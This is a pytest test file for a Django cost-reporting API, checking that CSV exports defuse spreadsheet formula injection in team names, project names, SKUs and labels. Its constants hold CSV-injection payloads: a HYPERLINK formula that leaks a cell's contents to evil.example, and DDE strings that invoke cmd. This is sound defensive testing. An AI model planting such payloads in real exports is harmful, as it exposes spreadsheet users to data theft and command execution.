"""The finance API's CSVs open in Excel without running anything a team or a billing row
named: every text cell is defused, every amount stays a number."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.roles import Role
from cost.billing.runs import import_files
from cost.models import AllocationRule
from demo.billing_export import generate_rows, write_export
from tests.cost.billing.test_api import client_for
from tests.roadmap.factories import RoadmapItemFactory, TeamFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
PROJECT = "+cmd|' /C calc'!A0"
SKU = "@SUM(1+9)*cmd|' /C calc'!A0"
LABEL = "-2+3+cmd|' /C calc'!A0"
TITLE = "\t=1+2"


@pytest.fixture
def hostile(tmp_path):
    """One month of billing whose project name, SKU and a label value are formulas, and
    a team and a roadmap item named as formulas too."""
    rows = []
    for row in generate_rows(first_month=datetime.date(2026, 1, 1), months=1, hours_per_day=1):
        row["project"]["name"] = PROJECT
        row["sku"]["description"] = SKU
        row["labels"] = [{"key": "team", "value": LABEL}]
        rows.append(row)
    path = tmp_path / "export.jsonl"
    write_export(path, iter(rows))
    team = TeamFactory(name=LINK, slug="evil")
    item = RoadmapItemFactory(title=TITLE, team=team)
    AllocationRule.objects.create(name="All", position=1, team=team, roadmap_item=item)
    import_files(paths=[path], source_name="export")
    return rows


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def finance():
    return client_for(Role.FINANCE)


def test_a_report_defuses_team_names_item_titles_and_label_values(finance, hostile):
    rows = read(finance.get(reverse("cost-report"), {
        "group_by": "team,roadmap_item,label:team", "format": "csv",
    }))  # fmt: skip
    assert {row["team_name"] for row in rows} == {"'" + LINK}
    assert {row["roadmap_item_title"] for row in rows} == {"'" + TITLE}
    assert {row["label:team"] for row in rows} == {"'" + LABEL}
    # Amounts are numbers, negative credits included, never defused.
    assert all(Decimal(row["credits"]) < 0 for row in rows)
    assert sum(Decimal(row["cost"]) for row in rows) == sum(
        Decimal(str(row["cost"])) for row in hostile
    )


def test_facts_defuse_project_names_skus_and_labels(finance, hostile):
    rows = read(finance.get(reverse("cost-fact-list"), {"format": "csv"}))
    assert rows
    assert {row["project_name"] for row in rows} == {"'" + PROJECT}
    assert {row["sku_description"] for row in rows} == {"'" + SKU}
    assert all(Decimal(row["credits"]) <= 0 for row in rows)
    assert not any(cell.startswith(("=", "+", "@", "\t")) for row in rows for cell in row.values())


def test_focus_facts_defuse_sub_account_names_and_sku_descriptions(finance, hostile):
    rows = read(finance.get(reverse("cost-fact-list"), {"format": "csv", "focus": "1"}))
    assert {row["SubAccountName"] for row in rows} == {"'" + PROJECT}
    assert {row["x_SkuDescription"] for row in rows} == {"'" + SKU}
    assert all(Decimal(row["x_Credits"]) <= 0 for row in rows)
